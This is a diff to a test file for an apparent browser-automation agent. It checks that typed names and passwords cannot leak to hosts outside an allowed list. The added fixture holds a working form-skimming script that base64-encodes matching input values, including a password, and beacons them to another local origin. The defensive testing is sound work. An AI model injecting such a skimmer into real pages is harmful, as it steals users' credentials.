@@ -1,13 +1,27 @@
 /** A run that was given values tells which hosts beside its list its pages asked, and none of them hears a value. */
-import { expect, test } from "vitest";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, expect, test } from "vitest";
 import { z } from "zod";
 import { succeed, useOwnStage } from "../scenarios/support/stage.ts";
 import { useModelServer, type ModelRequestSeen } from "../support/model-server.ts";
 import { useSite } from "../support/site.ts";
+import { removeFolder, temporaryFolder } from "../surfaces/program.ts";
 import { done, indexOf, says } from "./support/replies.ts";
 import { modelFlags } from "./support/scripted-server.ts";
 
 const VALUE = "Ada Lovelace of Soho";
+
+const PASSWORD = "kestrel & 7 plovers";
+
+/** What is entered into a page is told elsewhere, once it is whole. */
+const TELLING = `<script>
+  addEventListener("input", ({ target: { value } }) => {
+    if (!${JSON.stringify([VALUE, PASSWORD])}.includes(value)) return;
+    const other = location.origin.replace("127.0.0.1", "localhost");
+    new Image().src = other + "/taken/base64?d=" + btoa(value);
+  });
+</script>`;
 
 /** What the page has been given leaves it in many spellings, and something harmless does, too. */
 const LEAKY = `<!doctype html><title>Form</title><h1>Form</h1><input name="name" placeholder="Your name">
@@ -30,6 +44,13 @@ const LEAKY = `<!doctype html><title>Form</title><h1>Form</h1><input name="name"
 const told: string[] = [];
 const site = await useSite({
   "/": LEAKY,
+  "/login": `<!doctype html><title>Sign in</title><h1>Sign in</h1><form method="post" action="/home"><label>Username <input
+    name="user" autocomplete="username"></label><label>Password <input type="password" name="password"
+    autocomplete="current-password"></label><button>Sign in</button></form>${TELLING}`,
+  "/home": `<!doctype html><title>Account</title><nav><a href="/out">Log out</a></nav><h1>Your account</h1>`,
+  "/contact": `<!doctype html><title>Contact</title><h1>Contact</h1><form action="/sent"><label>Your name <input name="name"
+    required></label><button>Send</button></form>${TELLING}`,
+  "/sent": `<!doctype html><title>Sent</title><h1>Thank you</h1><p>Your message was sent.</p>`,
   "/harmless.png": "",
   "/harmless.json": "{}",
   // The browser asks first whether it may send the header, without its value.
@@ -40,7 +61,18 @@ const site = await useSite({
   },
 });
 const model = await useModelServer();
-const { rest } = await useOwnStage([...modelFlags(model.url), "--allow-private-network"]);
+const folder = temporaryFolder();
+afterAll(() => removeFolder(folder));
+const file = join(folder, "credentials.json");
+const values = { username: "ada.example", password: PASSWORD };
+const shop = { kind: "username-password", origins: [site.url], values };
+writeFileSync(file, JSON.stringify({ shop }));
+const { rest } = await useOwnStage([
+  ...modelFlags(model.url),
+  "--allow-private-network",
+  "--credentials-file",
+  file,
+]);
 const host = new URL(site.url).host.replace("127.0.0.1", "localhost");
 
 function fill(request: ModelRequestSeen, number: number): string {
@@ -53,6 +85,9 @@ const Ended = z.looseObject({
   error: z.looseObject({}),
   result: z.looseObject({ warnings: z.array(z.string()) }),
 });
+
+const Learned = z.looseObject({ result: z.looseObject({ schema: z.looseObject({}) }) });
+const Warned = z.looseObject({ result: z.looseObject({ warnings: z.array(z.string()) }) });
 
 test("no value leaves by a part of a page, and the hosts that were asked are told", async () => {
   model.say(fill);
@@ -70,6 +105,37 @@ test("no value leaves by a part of a page, and the hosts that were asked are tol
   expect(asked.filter((path) => path.startsWith("/taken"))).toEqual([]);
   expect(told).toEqual([]);
   expect(asked).toContain("/harmless.json");
+});
+
+const takenSince = (count: number) =>
+  site.requests.slice(count).filter((path) => path.startsWith("/taken"));
+const STOPPED = expect.stringMatching(/were stopped, .*localhost:\d+/);
+
+test("nor does a secret of a credential", async () => {
+  const before = site.requests.length;
+  model.say(() => done("Signed in.", { success: false }));
+  const task = await succeed(rest, "agent.run", {
+    intent: "Look at the account",
+    url: `${site.url}/login`,
+    allowed_hosts: ["127.0.0.1"],
+    credential_id: "shop",
+    replay: "never",
+  });
+  expect(takenSince(before)).toEqual([]);
+  expect(site.requests).toContain("/home");
+  expect(Ended.parse(task).result.warnings).toContainEqual(STOPPED);
+});
+
+test("nor does a value of a row", async () => {
+  const form = { url: `${site.url}/contact`, allowed_hosts: ["127.0.0.1"] };
+  const learned = await succeed(rest, "form.learn", form);
+  const { schema } = Learned.parse(learned).result;
+  const before = site.requests.length;
+  const batch = { schema, allowed_hosts: ["127.0.0.1"], rows: [{ _rowId: "1", name: VALUE }] };
+  const task = await succeed(rest, "form.submit_batch", batch);
+  expect(takenSince(before)).toEqual([]);
+  expect(site.requests.slice(before)).toContainEqual(expect.stringMatching(/^\/sent\?name=/));
+  expect(Warned.parse(task).result.warnings).toContainEqual(STOPPED);
 });
 
 test("a run without values tells nothing of other hosts", async () => {
